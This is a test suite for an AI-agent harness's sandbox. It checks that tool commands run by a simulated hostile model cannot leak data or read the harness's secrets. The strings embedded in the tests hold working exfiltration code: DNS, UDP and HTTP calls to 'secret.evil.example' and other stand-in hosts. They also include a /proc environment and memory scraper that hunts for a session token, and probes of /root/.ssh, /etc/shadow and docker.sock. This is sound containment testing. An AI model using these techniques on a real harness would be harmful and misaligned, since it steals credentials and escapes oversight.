import { createSocket } from 'node:dgram';
import { createServer as createHttpServer } from 'node:http';
import { type AddressInfo, createServer } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { type Rig, rigOf } from '../../local/sandbox/rig.ts';

/** All that came in outside: the sandbox's processes must bring nothing here. */
const heard: string[] = [];
const tcp = createServer((socket) => {
  heard.push('tcp');
  socket.on('error', () => {});
  socket.on('data', (data) => heard.push(`tcp ${data}`));
});
const web = createHttpServer((request, response) => {
  heard.push(`http ${request.url}`);
  response.end('stolen');
});
const names = createSocket('udp4', (message) => heard.push(`dns ${message.toString('latin1')}`));
const gateway = createHttpServer((_, response) => response.end('gateway'));
const rigs: Rig[] = [];
let at: { tcp: number; web: number; names: number };

beforeAll(async () => {
  await Promise.all([
    new Promise<void>((done) => tcp.listen(0, '127.0.0.1', done)),
    new Promise<void>((done) => web.listen(0, '127.0.0.1', done)),
    new Promise<void>((done) => names.bind(0, '127.0.0.1', done)),
  ]);
  const port = (server: { address(): unknown }) => (server.address() as AddressInfo).port;
  at = { tcp: port(tcp), web: port(web), names: port(names) };
});
afterAll(async () => {
  for (const server of [tcp, web, gateway]) server.close();
  names.close();
  for (const rig of rigs) await rig.remove();
});

const prelude = `
  import { execFileSync } from 'node:child_process';
  import { writeFileSync } from 'node:fs';
  const wrapper = JSON.parse(process.env.ENTROPY_TOOL_WRAPPER ?? '[]');
  // The harness gives tools no more than this.
  const { PATH, HOME, TMPDIR, ENTROPY_PRIVATE } = process.env;
  const env = { PATH, HOME, TMPDIR, ENTROPY_PRIVATE };
  const tool = (line) => {
    const argv = [...wrapper, '/bin/bash', '-c', 'trap "" USR1; (' + line + ') 2>&1 || true'];
    return execFileSync(argv[0], argv.slice(1), { env, encoding: 'utf8', timeout: 60000, maxBuffer: 1e8 }).trim();
  };
  const nodeTool = (script) => {
    writeFileSync(TMPDIR + '/t.mjs', script);
    return tool(process.execPath + ' $TMPDIR/t.mjs');
  };
  const seen = {};
`;

/** What tools see that a hostile model runs, the harness standing by with its secret in memory. */
async function seenIn(
  kind: 'bubblewrap' | 'process',
  body: string,
): Promise<Record<string, unknown>> {
  const script = `${prelude}\nglobalThis.kept = 'entropy_session_' + 'Zm9vYmFy'.repeat(5);\n${body}\nconsole.log(JSON.stringify(seen));`;
  const made = await rigOf(script, kind);
  rigs.push(made);
  gateway.closeAllConnections();
  if (gateway.listening) await new Promise((done) => gateway.close(done));
  await new Promise<void>((done) => gateway.listen(made.options.gateway.socketPath, done));
  const ending = await made.run();
  if (ending.detail !== 'exit code 0') throw new Error(`${ending.detail}: ${made.output()}`);
  return JSON.parse(made.output().trim().split('\n').at(-1) ?? '');
}

const ways = (port: { tcp: number; web: number; names: number }) => `
  import net from 'node:net';
  import dgram from 'node:dgram';
  import dns from 'node:dns';
  const said = {};
  const told = (name) => (error) => { said[name] = error ? (error.code ?? String(error)) : 'done'; };
  const within = (work) => Promise.race([work, new Promise((done) => setTimeout(done, 4000))]);
  await within(new Promise((done) => { const s = net.connect(${port.tcp}, '127.0.0.1', () => { s.end('secret'); told('ip')(); done(); }); s.on('error', (e) => { told('ip')(e); done(); }); }));
  await within(fetch('http://127.0.0.1:${port.web}/?d=secret').then(() => told('url')(), (e) => told('url')(e.cause ?? e)));
  await within(fetch('http://192.0.2.1/?d=secret', { signal: AbortSignal.timeout(3000) }).then(() => told('outside')(), (e) => told('outside')(e.cause ?? e)));
  await within(new Promise((done) => { const u = dgram.createSocket('udp4'); u.on('error', () => done()); u.send('secret.evil.example', ${port.names}, '127.0.0.1', () => { u.close(); done(); }); }));
  const resolver = new dns.Resolver({ timeout: 500, tries: 1 });
  resolver.setServers(['127.0.0.1:${port.names}']);
  await within(new Promise((done) => resolver.resolve4('secret.evil.example', (e) => { told('dns')(e); done(); })));
  await within(new Promise((done) => dns.lookup('secret.evil.example', (e) => { told('name')(e); done(); })));
  await within(fetch('http://registry.example/?d=secret', { signal: AbortSignal.timeout(3000) }).then(() => told('listed')(), (e) => told('listed')(e.cause ?? e)));
  console.log(JSON.stringify(said));
  process.exit(0);
`;

describe('exfiltration from bubblewrap', () => {
  test('by DNS, direct IP, URL or a listed host gets nothing out: a listener outside hears nothing', async () => {
    heard.length = 0;
    const seen = await seenIn(
      'bubblewrap',
      `seen.said = JSON.parse(nodeTool(${JSON.stringify(ways(at))}).split('\\n').at(-1)); seen.proxy = tool('echo "[$HTTPS_PROXY$https_proxy]"');`,
    );
    expect(seen.said).toMatchObject({
      ...{ ip: 'ECONNREFUSED', url: 'ECONNREFUSED', outside: 'ENETUNREACH' },
      name: expect.stringMatching(/^EAI_AGAIN|ENOTFOUND$/),
    });
    expect(seen.proxy).toBe('[]');
    expect(heard).toEqual([]);
  });
});

describe('exfiltration from process', () => {
  test('gets out whatever the tools know: it is no boundary, and is never chosen by itself', async () => {
    heard.length = 0;
    const seen = await seenIn(
      'process',
      `seen.said = JSON.parse(nodeTool(${JSON.stringify(ways(at))}).split('\\n').at(-1));`,
    );
    expect(seen.said).toMatchObject({ ip: 'done', url: 'done' });
    expect(heard).toContain('http /?d=secret');
  });
});

const grab = `
  import fs from 'node:fs';
  const found = [];
  const text = (path) => { try { return fs.readFileSync(path, 'latin1'); } catch { return ''; } };
  const secret = /entropy_session_(?:Zm9vYmFy){5}|boot-code-of-the-test/;
  const pids = fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name) && Number(name) !== process.pid);
  for (const pid of [...pids, 'self', 'thread-self', '1']) {
    for (const name of ['environ', 'cmdline']) if (secret.test(text('/proc/' + pid + '/' + name))) found.push(name);
    try { for (const fd of fs.readdirSync('/proc/' + pid + '/fd')) { const link = fs.readlinkSync('/proc/' + pid + '/fd/' + fd); if (/gateway\\.db|entropy\\.db|keys/.test(link)) found.push('fd'); } } catch {}
    if (pid === 'self' || pid === 'thread-self' || Number(pid) === process.pid) continue;
    const cmd = text('/proc/' + pid + '/cmdline');
    if (!/task-image\\/main\\.ts/.test(cmd) || !/^[^ ]*node/.test(cmd)) continue;
    found.push('harness in sight');
    try {
      const mem = fs.openSync('/proc/' + pid + '/mem', 'r');
      for (const line of text('/proc/' + pid + '/maps').split('\\n')) {
        const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
        if (from === undefined) continue;
        const size = Math.min(parseInt(to, 16) - parseInt(from, 16), 1 << 24);
        const bytes = Buffer.alloc(size);
        try { fs.readSync(mem, bytes, 0, size, parseInt(from, 16)); } catch { continue; }
        if (bytes.includes('entropy_session_Zm9vYmFyZm9vYmFy')) { found.push('memory'); break; }
      }
    } catch {}
  }
  console.log(JSON.stringify([...new Set(found)].sort()));
`;

describe("a tool that looks for the harness's secrets", () => {
  test('in /proc, environments, command lines, descriptors and memory gets nothing in bubblewrap', async () => {
    const seen = await seenIn(
      'bubblewrap',
      `seen.found = JSON.parse(nodeTool(${JSON.stringify(grab)}).split('\\n').at(-1)); seen.kept = globalThis.kept.length;`,
    );
    expect(seen).toEqual({ found: [], kept: 56 });
  });

  test('gets sight of the harness in process: it is the same user, which is why it must be asked for', async () => {
    const seen = await seenIn(
      'process',
      `seen.found = JSON.parse(nodeTool(${JSON.stringify(grab)}).split('\\n').at(-1)); seen.kept = globalThis.kept.length;`,
    );
    expect(seen.found).toContain('harness in sight');
  });

  test('by a debugger, a signal or a trace gets nothing in bubblewrap', async () => {
    const seen = await seenIn(
      'bubblewrap',
      `
      seen.trace = tool('for p in /proc/[0-9]*; do [ "$(cat $p/comm 2>/dev/null)" = node ] && echo found $p; done; echo end');
      seen.signal = tool('kill -USR1 ${'$'}PPID ' + process.pid + '; echo end');
      seen.debugger = tool('exec 3<>/dev/tcp/127.0.0.1/9229 && echo open');
      seen.private = tool('echo x > $ENTROPY_PRIVATE/x && echo written; ls /run/entropy/private >/dev/null && echo read');
      seen.gateway = tool('ls -l /run/entropy/gateway.sock | cut -c1');
      `,
    );
    expect(seen.trace).toBe('end');
    expect(seen.debugger).not.toContain('open');
    expect(seen.private).not.toContain('written');
    // It may knock at the gateway, where it has no session.
    expect(seen.gateway).toBe('s');
  });
});

test("files of the harness, of the server and of the machine's user are not there in bubblewrap", async () => {
  const made = await rigOf('', 'bubblewrap');
  rigs.push(made);
  const paths = [
    made.dataDir,
    join(made.folder, 'root', '.env'),
    '/root/.ssh',
    '/root/.aws',
    '/etc/shadow',
    '/var/run/docker.sock',
  ];
  const seen = await seenIn(
    'bubblewrap',
    `seen.found = tool(${JSON.stringify(paths.map((path) => `[ -e ${path} ] && echo ${path}`).join('; '))});`,
  );
  expect(seen.found).toBe('');
});
